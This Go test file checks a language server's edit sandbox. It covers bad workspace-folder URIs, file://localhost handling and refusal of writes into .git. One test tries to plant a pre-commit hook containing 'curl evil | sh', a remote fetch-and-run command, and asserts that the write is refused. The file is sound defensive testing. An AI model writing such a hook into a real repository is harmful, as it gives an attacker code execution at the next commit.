package lsp

import (
	"os"
	"path/filepath"
	"testing"

	"github.com/assistant-ls/assistant-ls/lsp/ext"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

// initializeWith starts a client of profile whose initialize params are changed by set.
func initializeWith(t *testing.T, profile clientProfile, set func(c *testClient, p map[string]any)) *testClient {
	t.Helper()
	c := newTestClient(t, profile, withoutInitialize())
	p := c.initializeParams(nil)
	set(c, p)
	require.NoError(t, c.request("initialize", p, nil))
	c.notify("initialized", map[string]any{})
	return c
}

// TestWireBadWorkspaceFolders is defect 10: a workspace folder that is not an absolute file
// path used to become "/", the server's working directory or $HOME, so that the sandbox let
// edits anywhere there, and the server created the file of a client without documentChanges.
// Now such a folder is ignored with a warning, and the edit is refused.
func TestWireBadWorkspaceFolders(t *testing.T) {
	noFolders := func(p map[string]any) { p["workspaceFolders"], p["rootUri"], p["rootPath"] = nil, nil, nil }
	tests := []struct {
		name string
		set  func(p map[string]any)
	}{
		{"empty folder uri", func(p map[string]any) {
			noFolders(p)
			p["workspaceFolders"] = []map[string]any{{"uri": "", "name": "x"}}
		}},
		{"folder uri file://", func(p map[string]any) {
			noFolders(p)
			p["workspaceFolders"] = []map[string]any{{"uri": "file://", "name": "x"}}
		}},
		{"rootUri file://", func(p map[string]any) { noFolders(p); p["rootUri"] = "file://" }},
		{"rootPath .", func(p map[string]any) { noFolders(p); p["rootPath"] = "." }},
		{"rootPath ~", func(p map[string]any) { noFolders(p); p["rootPath"] = "~" }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			outside, err := filepath.EvalSymlinks(t.TempDir())
			require.NoError(t, err)
			t.Chdir(outside)
			t.Setenv("HOME", outside)
			c := initializeWith(t, profileNeovim07, func(_ *testClient, p map[string]any) { tt.set(p) })
			target := filepath.Join(outside, "pwned.txt")
			streamMessage(c, "m", writeUse(target, "x\n"), 13)
			st := waitSettled(c, "m", 0)
			assert.Equal(t, ext.StatusRefused, st.Status, st.Error)
			assert.NoFileExists(t, target)
			assert.Empty(t, c.applyRequests())
			c.waitFor("the warning about the folder", func() bool { return hasMessage(c.messages(), "workspace folder") })
		})
	}
}

// TestWireLocalhostFolder checks that file://localhost/x names the folder /x (RFC 8089), not
// /localhost/x: edits inside it apply.
func TestWireLocalhostFolder(t *testing.T) {
	t.Parallel()
	c := initializeWith(t, profileHelix, func(c *testClient, p map[string]any) {
		u := "file://localhost" + filepath.ToSlash(c.root)
		p["workspaceFolders"] = []map[string]any{{"uri": u, "name": "w"}}
		p["rootUri"] = u
	})
	streamMessage(c, "m", writeUse("dir/new.txt", "hello\n"), 11)
	st := waitSettled(c, "m", 0)
	require.Equal(t, ext.StatusApplied, st.Status, st.Error)
	assert.Equal(t, c.uri("dir/new.txt"), st.URI)
	assert.Equal(t, "hello\n", c.buffer(c.uri("dir/new.txt")))
	assert.Empty(t, c.messages())
}

// TestWireGitDir is defect 11: writes into .git (a hook runs at the next commit) are refused by
// default, also through a link, and allowed with allowGitDir.
func TestWireGitDir(t *testing.T) {
	t.Parallel()
	t.Run("refused", func(t *testing.T) {
		c := newTestClient(t, profileNeovim07)
		require.NoError(t, os.MkdirAll(c.path(".git/hooks"), 0o755))
		msg := writeUse(".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n") +
			replaceUse(".git/config", diff("a\n", "b\n")) +
			writeUse("sub/.GIT/hooks/post-merge", "x\n")
		streamMessage(c, "m", msg, 17)
		for i := range 3 {
			st := waitSettled(c, "m", i)
			assert.Equal(t, ext.StatusRefused, st.Status)
			assert.Contains(t, st.Error, "allowGitDir")
		}
		assert.NoFileExists(t, c.path(".git/hooks/pre-commit"))
		assert.NoDirExists(t, c.path("sub"))
		assert.Empty(t, c.applyRequests())
	})
	t.Run("allowed", func(t *testing.T) {
		c := newTestClient(t, profileVSCode, withInitOptions(map[string]any{"allowGitDir": true}))
		streamMessage(c, "m", writeUse(".git/info/exclude", "*.log\n"), 17)
		st := waitSettled(c, "m", 0)
		require.Equal(t, ext.StatusApplied, st.Status, st.Error)
		assert.Equal(t, c.uri(".git/info/exclude"), st.URI)
		assert.Equal(t, "*.log\n", c.buffer(c.uri(".git/info/exclude")))
	})
}
